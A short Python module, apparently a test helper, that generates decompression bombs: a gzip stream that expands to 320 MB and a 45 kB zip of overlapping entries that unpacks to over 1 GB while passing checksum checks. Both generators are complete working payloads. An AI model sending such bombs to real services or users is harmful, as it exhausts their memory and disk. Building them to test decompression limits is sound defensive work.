"""Bodies of some kilobytes that expand to hundreds of megabytes: a gzip stream, and a zip of overlapping entries."""

from __future__ import annotations

import struct
import zlib
from functools import cache

BLOCK_BYTES = 1024 * 1024
BLOCKS = 320
ZIP_ENTRIES, ZEROS = 27, 40
LOCAL, CENTRAL, END = struct.Struct("<4s5H3I2H"), struct.Struct("<4s6H3I5H2I"), struct.Struct("<4s4H2IH")
GZIP_HEADER = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03"


@cache
def gzip_bomb() -> bytes:
    """320 MB of spaces in one gzip member: one compressed block many times over."""
    block = b" " * BLOCK_BYTES
    deflate = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    # After a full flush nothing refers back, so that the same compressed bytes may follow themselves.
    squeezed = deflate.compress(block) + deflate.flush(zlib.Z_FULL_FLUSH)
    checksum = 0
    for _ in range(BLOCKS):
        checksum = zlib.crc32(block, checksum)
    trailer = struct.pack("<II", checksum, BLOCK_BYTES * BLOCKS & 0xFFFFFFFF)
    return GZIP_HEADER + squeezed * BLOCKS + deflate.flush() + trailer


@cache
def zip_bomb(folder: str) -> bytes:
    """45 kB that unpack to more than 1 GB: 27 entries that all end in the same 40 MB of squeezed zeros.

    Each body begins with the next entry's header, quoted in a stored block, so that every entry is well-formed by
    itself, checksum and all; only that they lie on top of each other gives them away.
    """
    zeros = bytes(BLOCK_BYTES)
    deflate = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    body = b"".join(deflate.compress(zeros) for _ in range(ZEROS)) + deflate.flush()
    quoted, size, central = b"", ZEROS * BLOCK_BYTES, []
    for number in reversed(range(ZIP_ENTRIES)):
        name = f"{folder}/{number:02}.txt".encode()
        checksum = zlib.crc32(quoted)
        for _ in range(ZEROS):
            checksum = zlib.crc32(zeros, checksum)
        facts = (20, 0, 8, 0, 0x21, checksum, len(body), size, len(name), 0)
        header = LOCAL.pack(b"PK\3\4", *facts) + name
        central.append((facts, name, len(header) + len(body)))
        body = b"\0" + struct.pack("<HH", len(header), len(header) ^ 0xFFFF) + header + body
        quoted, size = header + quoted, size + len(header)
    archive = body[5:]
    entries = b"".join(
        CENTRAL.pack(b"PK\1\2", 20, *facts, 0, 0, 0, 0, len(archive) - from_end) + name
        for facts, name, from_end in reversed(central)
    )
    numbers = (0, 0, ZIP_ENTRIES, ZIP_ENTRIES, len(entries), len(archive), 0)
    return archive + entries + END.pack(b"PK\5\6", *numbers)
